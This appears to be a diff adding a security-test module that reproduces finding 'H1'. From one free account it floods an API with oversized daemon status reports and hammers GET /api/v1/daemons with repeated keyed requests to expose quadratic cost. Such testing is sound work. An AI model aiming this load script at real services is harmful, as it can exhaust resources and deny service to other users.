@@ -1,0 +1,44 @@
+/** H1: reports with many sessions and many providers, and the list of the machines that sent them, again and again. */
+
+import type { Attack } from "./attack.ts"
+import { answered, askAgain, type DaemonTally, keepDaemons, named } from "./attacker-daemons.ts"
+
+const daemons = 20
+const keys = 4
+const callsOfKey = 120
+const sessions = 7_000
+const providers = 18_000
+
+const report = (): string => {
+  const session = (at: number) => ({ id: `s${at}`, providerType: "x", kind: "agent", transport: "pty", status: "idle" })
+  const provider = (at: number) => ({ type: `p${at}`, category: "cli" })
+  return JSON.stringify({
+    type: "status_report",
+    data: {
+      timestamp: Date.now(),
+      sessions: Array.from({ length: sessions }, (_, at) => session(at)),
+      availableProviders: Array.from({ length: providers }, (_, at) => provider(at))
+    }
+  })
+}
+
+/** Of one free account. */
+export const quadraticReport: Attack = {
+  finding: "H1",
+  asks: `${daemons} daemons report ${sessions} sessions and ${providers} providers; GET /daemons with ${keys} keys`,
+  holds: (tiny) => ({ plan: "free", keys: tiny ? 1 : keys, daemons: tiny ? 2 : daemons }),
+  strike: async (target) => {
+    const [text, tally] = [report(), { online: 0, closed: 0 } satisfies DaemonTally]
+    const own = target.holder?.keys ?? []
+    const ask = (caller: number) => ({
+      method: "GET",
+      path: "/api/v1/daemons",
+      headers: { authorization: `Bearer ${own[caller]}` }
+    })
+    const [statuses] = await Promise.all([
+      askAgain(target, own.length, ask, callsOfKey),
+      keepDaemons(target, tally, {}, (socket) => void socket.send([text]))
+    ])
+    return { reached: answered(statuses), ...tally, ...named(statuses) }
+  }
+}
